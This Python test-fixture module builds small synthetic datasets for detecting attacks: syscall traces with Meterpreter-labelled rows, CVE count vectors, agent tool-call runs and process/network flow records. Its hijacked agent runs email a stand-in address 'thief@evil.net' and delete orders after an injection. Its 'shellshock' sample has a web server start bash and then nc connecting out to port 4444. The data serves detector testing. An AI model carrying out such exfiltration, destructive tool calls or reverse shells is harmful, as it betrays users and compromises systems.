"""Tiny sets in the layouts of the real ones."""

from __future__ import annotations

import gzip
import json

import numpy as np

HEADING = "split\tlabel\tfamily\tsession\tname\tn\tseq"


def sequence(rng, *, strange=False):
    """Some calls of a program that opens, reads and closes; a strange one does other things in between."""
    calls = []
    for _ in range(int(rng.integers(8, 30))):
        calls += [257, *[0] * int(rng.integers(1, 5)), 3]
        if strange and rng.random() < 0.6:
            calls += [59, 41, 42, 1]
    return calls


def traces(folder, *, split=True, normal=120, attacks=30, family="-"):
    """A table of sequences."""
    rng = np.random.default_rng(5)
    rows = [
        ("train" if split and i % 2 else "val" if split else "normal", "normal", family, False) for i in range(normal)
    ]
    rows += [("attack", "attack", "Meterpreter" if split else family, True)] * attacks
    lines = [HEADING]
    for i, (part, label, fam, strange) in enumerate(rows):
        calls = sequence(rng, strange=strange)
        lines.append(f"{part}\t{label}\t{fam}\t-\tt{i}\t{len(calls)}\t{' '.join(map(str, calls))}")
    with gzip.open(folder / "traces.tsv.gz", "wt") as file:
        file.write("\n".join(lines) + "\n")
    return folder


def counts(folder, *, servers=2, pods=3):
    """Count vectors: each exploit makes calls that the server never made."""
    rng = np.random.default_rng(3)
    arrays, timing = {}, {}
    for s in range(servers):
        for p in range(1, pods + 1):
            name = f"CVE-{s}"
            arrays[f"{name}|{p}|train"] = rng.poisson([30, 10, 1, 0, 0], (400, 5)).astype(np.uint16)
            test = rng.poisson([30, 10, 1, 0, 0], (300, 5)).astype(np.uint16)
            test[210:240, 3] = 4
            arrays[f"{name}|{p}|test"] = test
            timing[f"{name}/{p}"] = [205, 215, 245]
    np.savez_compressed(folder / "freqvec.npz", **arrays)
    category = "\n".join(f"Execute code, CVE-{s}" for s in range(servers))
    (folder / "meta.json").write_text(json.dumps({"columns": list("abcde"), "timing": timing, "category": category}))
    return folder


def agent_runs(folder):
    """Benign runs of four tasks, a hijacked one of each, and three real runs without attack."""
    benign = [
        run("shop", f"task{n}", "benign", [("get_order", {"id": n}), ("send_email", {"to": "a@b.org"})])
        for n in range(4)
    ]
    stolen = ("send_email", {"to": "thief@evil.net"})
    hijacked = [
        run(
            "shop",
            f"task{n}",
            "hijacked",
            [("get_order", {"id": n}), stolen, ("delete_order", {"id": n})],
            injection_task="i1",
        )
        for n in range(4)
    ]
    real = [{**run("", f"{n}", "benign", [("get_order", {}), ("refund", {})][: n + 1]), "task_id": n} for n in range(3)]
    for name, runs in (("agentdojo_benign", benign), ("agentdojo_hijacked", hijacked), ("tau_airline", real)):
        (folder / f"{name}.jsonl").write_text("".join(json.dumps(r) + "\n" for r in runs))
    return folder


def run(suite, task, label, calls, **more):
    shaped = [{"i": i, "tool": t, "args": a, "origin": "?", "result_tainted": False} for i, (t, a) in enumerate(calls)]
    return {
        "id": task,
        "suite": suite,
        "user_task": task,
        "label": label,
        "prompt": "write to a@b.org",
        "calls": shaped,
        **more,
    }


def process(seconds, exe, parent, op="EXEC"):
    return {"ts": int(seconds * 1e9), "k": "PE", "op": op, "exe": exe, "pexe": parent}


def file(seconds, exe, path, op="OPEN|READ_RECV|CLOSE"):
    return {
        "ts": int(seconds * 1e9),
        "k": "FF",
        "op": op,
        "exe": exe,
        "pexe": "/sbin/init",
        "path": path,
        "rt": 102,
        "rx": 9,
    }


def flow(seconds, exe, address, port, op="CONNECT|WRITE_SEND"):
    number = int.from_bytes(bytes(map(int, address.split("."))), "little")
    return {
        "ts": int(seconds * 1e9),
        "k": "NF",
        "op": op,
        "exe": exe,
        "pexe": "/x",
        "dip": number,
        "dport": port,
        "tx": 70,
    }


def sysflow(folder):
    """A web server, and a shell that it starts for somebody."""
    web = "/usr/sbin/httpd"
    served = [flow(1, web, "10.0.0.4", 80, "ACCEPT|READ_RECV"), file(1.1, web, "/var/www/index.html")]
    shell = [
        process(1, "/bin/bash", web),
        process(2, "/usr/bin/nc", "/bin/bash"),
        flow(3, "/usr/bin/nc", "9.9.9.9", 4444),
    ]
    for name, records in (("samples__httpd", served), ("shellshock", shell)):
        with gzip.open(folder / f"{name}.jsonl.gz", "wt") as out:
            out.write("".join(json.dumps(r) + "\n" for r in records))
    return folder
